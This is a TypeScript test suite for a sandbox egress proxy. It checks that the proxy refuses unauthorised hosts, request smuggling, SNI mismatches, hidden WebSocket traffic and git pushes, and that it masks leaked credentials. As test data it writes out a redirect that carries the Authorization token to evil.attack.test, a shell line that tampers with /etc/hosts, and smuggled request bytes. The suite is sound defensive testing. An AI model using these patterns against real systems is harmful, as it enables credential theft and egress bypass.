// What every bottle's egress is tried with, wherever the guest runs: the table of attempts to reach what was not given, to borrow
// or leak credentials, and to make the proxy and a server disagree about a request. Observed at a sink outside.
import { createHash } from "node:crypto";
import { expect, it } from "vitest";
import { type EgressAttack, request, TOKENS } from "../support/egress-attack.ts";
import { requires } from "../support/requires.ts";
import {
  ADDRESSES,
  BAD_ADDRESSES,
  CREDENTIALS,
  connect,
  get,
  HANDSHAKE,
  HIDDEN,
  HOSTS,
  IDENTITY,
  inside,
  MALFORMED,
  PACKED,
  type Row,
  SMUGGLING,
  within,
} from "./egress-attempts.ts";

/** Defines the tests; `attack` gives the bottle once it runs. */
export function egressSuite(attack: () => EgressAttack): void {
  const check = (attempt: Row[1], expected: Row[2]): Promise<unknown> =>
    attack().refused(
      typeof attempt === "function" ? attempt(attack()) : attempt,
      typeof expected === "function" ? expected(attack()) : expected,
    );

  it("lets through what was granted, with the credential put in outside", async () => {
    const { env, sink } = attack();
    await attack().allowed(inside("api", "/", `Authorization: Bearer ${env["API_TOKEN"]}`));
    expect(sink.arrived.at(-1)?.headers.authorization).toBe(`Bearer ${TOKENS.API_TOKEN}`);
    const more = `Authorization: Bearer ${env["API_TOKEN"]} sk-attacker-000000000000`;
    await attack().allowed(inside("api", "/", more));
    expect(sink.arrived.at(-1)?.headers.authorization).toBe(`Bearer ${TOKENS.API_TOKEN}`);
    await attack().allowed(inside("key"));
    expect(sink.arrived.at(-1)?.headers["x-service-key"]).toBe(TOKENS.KEY_TOKEN);
    await attack().allowed(inside("query", `/v1?a=1&service_key=${env["QUERY_TOKEN"]}`));
    expect(sink.arrived.at(-1)?.url).toBe(`/v1?a=1&service_key=${TOKENS.QUERY_TOKEN}`);
    await attack().allowed(get("http://plain.attack.test/", "plain.attack.test"));
    await attack().allowed(inside("narrow", "/ok/this"));
    await attack().allowed(inside("git", "/r.git/info/refs?service=git-upload-pack"));
    for (const variable of Object.keys(TOKENS))
      expect(env[variable]).toMatch(/^bot-bottle-placeholder-/);
    attack().expectNoSecret(JSON.stringify(env));
  });

  it("sends the canonical name on, whatever the spelling", async () => {
    await attack().allowed({
      tunnel: { authority: "OPEN.attack.TEST.:443", servername: "open.attack.test" },
      bytes: request("GET", "/", "Open.Attack.Test."),
    });
    expect(attack().sink.arrived.at(-1)?.host).toBe("open.attack.test");
  });

  it.each(HOSTS)(
    "does not reach %s",
    async (_name, attempt, expected) => void (await check(attempt, expected)),
  );
  it.each(ADDRESSES)("does not reach the address %s", async (address, expected) => {
    await check(connect(`${address}:443`), expected);
    await check(get(`http://${address}/`, address), expected);
  });
  it.each(BAD_ADDRESSES)("does not read %s as a name", async (address, expected) => {
    await check(connect(`${address}:443`), expected);
  });
  it.each(IDENTITY)(
    "refuses %s",
    async (_name, attempt, expected) => void (await check(attempt, expected)),
  );
  it.each(PACKED)(
    "finds the canary in %s",
    async (_name, attempt, expected) => void (await check(attempt, expected)),
  );
  it.each(SMUGGLING)("refuses %s", async (_name, bytes) => {
    await check({ tunnel: { authority: "open.attack.test:443" }, bytes }, MALFORMED);
    const absolute = bytes.replace("POST / ", "POST http://plain.attack.test/ ");
    await check({ bytes: absolute.replaceAll("open.attack.test", "plain.attack.test") }, MALFORMED);
  });
  it.each(CREDENTIALS)(
    "refuses %s",
    async (_name, attempt, expected) => void (await check(attempt, expected)),
  );

  it("judges each request of a connection by itself", async () => {
    const { sink, world } = attack();
    const before = sink.arrived.length;
    const first = "GET /first HTTP/1.1\r\nHost: open.attack.test\r\n\r\n";
    const { text = "" } = await attack().send({ ...within("open", first, HIDDEN), waitMs: 500 });
    expect(text.match(/^HTTP\/1\.1 \d+/gm)).toEqual(["HTTP/1.1 200", "HTTP/1.1 403"]);
    expect(text).toContain("egress: authority-mismatch: ");
    expect(sink.arrived.slice(before).map(({ url }) => url)).toEqual(["/first"]);
    expect(world.audit().at(-1)).toMatchObject({ verdict: "deny", reason: "authority-mismatch" });
  });

  it("hands bytes behind a request to nobody as they are", async () => {
    const { sink } = attack();
    const before = sink.arrived.length;
    const body = "POST /one HTTP/1.1\r\nHost: open.attack.test\r\nContent-Length: 3\r\n\r\nabc";
    await attack().send({ ...within("open", `${body}${HIDDEN}`), waitMs: 500 });
    expect(sink.arrived.slice(before).map(({ url, body: got }) => [url, got.toString()])).toEqual([
      ["/one", "abc"],
    ]);
  });

  it("keeps the address that it dials from the guest's hands", async () => {
    // A guest that lies about where a name leads changes nothing: the proxy resolves by itself.
    const { text = "" } = await attack().send({
      ...inside("api"),
      tunnel: { authority: "api.attack.test:443" },
    });
    expect(text).toMatch(/^HTTP\/1\.1 200 /);
    const lie = await attack().world.run([
      "/bin/sh",
      "-c",
      "echo '203.0.113.7 api.attack.test' >> /etc/hosts",
    ]);
    expect(lie.code).not.toBe(0);
  });

  it("masks a credential that comes back, in headers and bodies, however it is cut", async () => {
    const { sink } = attack();
    const own = sink.answer;
    try {
      sink.answer = ({ headers, url }, response) => {
        const token = `${headers.authorization ?? ""} ${String(headers["x-service-key"] ?? "")} ${url}`;
        response.setHeader("x-echo", token);
        for (const piece of token.match(/.{1,5}/g) ?? []) response.write(piece);
        response.end();
      };
      for (const name of ["api", "key", "query"]) {
        const { text = "" } = await attack().allowed(inside(name));
        attack().expectNoSecret(text);
        // Cut into chunks on its way, the value still must not be there when they are put together.
        attack().expectNoSecret(text.replace(/\r\n[0-9a-f]+\r\n/g, ""));
      }
    } finally {
      sink.answer = own;
    }
  });

  it("does not follow a redirect with or without the credential", async () => {
    const { sink } = attack();
    const own = sink.answer;
    try {
      sink.answer = ({ headers }, response) =>
        response
          .writeHead(302, {
            location: `https://evil.attack.test/?t=${headers.authorization ?? ""}`,
          })
          .end();
      const { text = "" } = await attack().allowed(inside("api"), 302);
      attack().expectNoSecret(text);
    } finally {
      sink.answer = own;
    }
    expect(sink.arrived.some(({ host }) => host.startsWith("evil"))).toBe(false);
  });

  it.each(["wrong", "stranger"])(
    "sends nothing to an upstream that cannot prove its name: %s",
    async (name) => {
      const before = attack().sink.count().requests;
      const { text } = await attack().send(inside(name));
      expect(text).toMatch(/^HTTP\/1\.1 403 [^]*\r\n\r\negress: upstream-untrusted: /);
      expect(attack().sink.count().requests).toBe(before);
      expect(attack().world.audit().at(-1)).toMatchObject({
        verdict: "deny",
        reason: "upstream-untrusted",
      });
    },
  );

  it("gives no raw way where the upstream did not switch protocols", async () => {
    const { sink } = attack();
    const before = sink.arrived.length;
    const upgrade = request("GET", "/", "open.attack.test", HANDSHAKE).replace(
      "Connection: close\r\n",
      "",
    );
    const { text = "" } = await attack().send({ ...within("open", upgrade, HIDDEN), waitMs: 500 });
    expect(text).toMatch(/^HTTP\/1\.1 200 /);
    expect(sink.arrived.slice(before).map(({ url }) => url)).toEqual(["/"]);
  });

  it("lets nothing but frames through where it did", async () => {
    const { sink } = attack();
    const before = sink.arrived.length;
    const chunks = sink.acceptUpgrade((from) => {
      const key = `${from.headers["sec-websocket-key"] ?? ""}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`;
      const accept = createHash("sha1").update(key).digest("base64");
      return `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`;
    });
    const upgrade = request("GET", "/ws", "open.attack.test", HANDSHAKE).replace(
      "Connection: close\r\n",
      "",
    );
    const { text = "" } = await attack().send({ ...within("open", upgrade, HIDDEN), waitMs: 1000 });
    expect(text).toMatch(/^HTTP\/1\.1 101 /);
    expect(Buffer.concat(chunks).toString("latin1")).not.toContain("GET /hidden");
    expect(sink.arrived.length).toBe(before);
  });

  it("makes no certificate for a name that it refuses", async () => {
    const { ended, text = "" } = await attack().send({
      tunnel: { authority: "open.attack.test:443", servername: "evil.attack.test" },
      bytes: "",
    });
    expect([ended, text]).toEqual([expect.stringMatching(/UNRECOGNIZED_NAME/), ""]);
  });

  it("refuses git itself, with its own words", requires("git"), async () => {
    const { world, sink } = attack();
    const before = sink.arrived.length;
    const push = await world.sh(
      "cd /tmp && git init -q r && cd r && git -c user.name=a -c user.email=a@a commit -q --allow-empty -m x && git push https://git.attack.test/r.git HEAD:refs/heads/main",
    );
    expect(push.code).not.toBe(0);
    expect(push.stderr).toContain("403");
    const fetch = await world.sh("git ls-remote https://open.attack.test/r.git");
    expect(fetch.code).not.toBe(0);
    expect(fetch.stderr).toContain("403");
    expect(sink.arrived.length).toBe(before);
    expect(
      world
        .audit()
        .filter(({ reason }) => reason === "git-push-refused" || reason === "git-fetch-refused")
        .length,
    ).toBeGreaterThan(1);
  });

  it("keeps a log that proves its own order", async () => {
    const { verifyAudit } = await import("../../src/protocol/audit-read.ts");
    const result = await verifyAudit(attack().world.bottles[0]?.audit ?? "");
    expect(result).toMatchObject({ ok: true });
    attack().expectNoSecret("");
  });
}
